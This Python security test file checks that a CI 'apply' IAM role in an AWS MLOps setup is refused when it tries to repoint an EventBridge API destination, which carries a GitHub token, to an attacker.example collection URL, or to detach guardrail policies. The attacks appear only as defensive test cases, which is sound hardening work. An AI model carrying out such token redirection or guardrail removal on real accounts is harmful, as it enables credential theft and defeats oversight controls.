"""The GitHub apply role with its own credentials, outside any reviewed plan: what its boundary and
its own denies refuse, whatever it asks. Each attack was allowed by the apply role's documents before
(`before/mlops-dev-github-apply.json`)."""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING

from orchestrator.policy.evaluator import Request
from tests.security.conftest import REGION, client, decided_before, not_refused, refused, session

if TYPE_CHECKING:
    from tests.world import World

APPLY = "mlops-dev-github-apply"
DESTINATION = "mlops-dev-abalone-repository-dispatch"
CONNECTION = "mlops-dev-abalone-github"


def _apply_role(world: World) -> dict[str, str]:
    return session(world.url, f"arn:aws:iam::{world.accounts['dev']}:role/{APPLY}")


def test_the_apply_role_cannot_send_the_github_token_anywhere_but_github(world: World) -> None:
    """EventBridge sends the connection's GitHub token to the API destination's endpoint. The CI
    boundary allows no write on connections or API destinations (NamedResources names neither), so
    the trigger is pointed elsewhere only by the deploy role (orchestrator/protected.py)."""
    dev = world.accounts["dev"]
    events = client(world.url, _apply_role(world), "events")
    connection_arn = f"arn:aws:events:{REGION}:{dev}:connection/{CONNECTION}"
    attacker = "https://attacker.example/collect"
    message = refused(
        lambda: events.update_api_destination(Name=DESTINATION, InvocationEndpoint=attacker, HttpMethod="POST")
    )
    assert (
        f"events:UpdateApiDestination on resource: arn:aws:events:{REGION}:{dev}:api-destination/{DESTINATION}"
        in message
    )
    refused(
        lambda: events.create_api_destination(
            Name="mlops-dev-relay", ConnectionArn=connection_arn, InvocationEndpoint=attacker, HttpMethod="POST"
        )
    )
    refused(
        lambda: events.create_connection(
            Name="mlops-dev-relay",
            AuthorizationType="API_KEY",
            AuthParameters={"ApiKeyAuthParameters": {"ApiKeyName": "Authorization", "ApiKeyValue": "x"}},
        )
    )
    refused(lambda: events.update_connection(Name=CONNECTION, AuthorizationType="API_KEY"))
    refused(lambda: events.delete_api_destination(Name=DESTINATION))
    not_refused(lambda: events.describe_api_destination(Name=DESTINATION))  # plans still refresh it
    for action, resource in (
        ("events:UpdateApiDestination", f"api-destination/{DESTINATION}"),
        ("events:CreateConnection", "connection/mlops-dev-relay"),
    ):
        assert decided_before(APPLY, Request(action, f"arn:aws:events:{REGION}:{dev}:{resource}"), dev).allowed


def test_the_apply_role_cannot_detach_the_guardrails_from_any_role(world: World) -> None:
    """Apply policy DenyGuardrailsDetach (iam:PolicyARN = the guardrails); removing a role that carries
    them is the deploy role's. It still attaches them (every new role gets them)."""
    dev = world.accounts["dev"]
    iam = client(world.url, _apply_role(world), "iam")
    guardrails = f"arn:aws:iam::{dev}:policy/mlops-dev-sagemaker-guardrails"
    instance_types = f"arn:aws:iam::{dev}:policy/mlops-dev-instance-types"  # protected the same way
    for role in ("mlops-dev-data-scientist", "mlops-dev-abalone-pipeline"):
        for policy in (guardrails, instance_types):
            message = refused(partial(iam.detach_role_policy, RoleName=role, PolicyArn=policy))
            assert "with an explicit deny" in message
    not_refused(
        lambda: iam.attach_role_policy(RoleName="mlops-dev-data-scientist", PolicyArn=guardrails)
    )  # already attached: a no-op
    context = {
        "iam:PolicyARN": guardrails,
        "iam:PermissionsBoundary": f"arn:aws:iam::{dev}:policy/mlops-dev-permission-boundary",
    }
    role_arn = f"arn:aws:iam::{dev}:role/mlops-dev-data-scientist"
    assert decided_before(APPLY, Request("iam:DetachRolePolicy", role_arn, context), dev).allowed
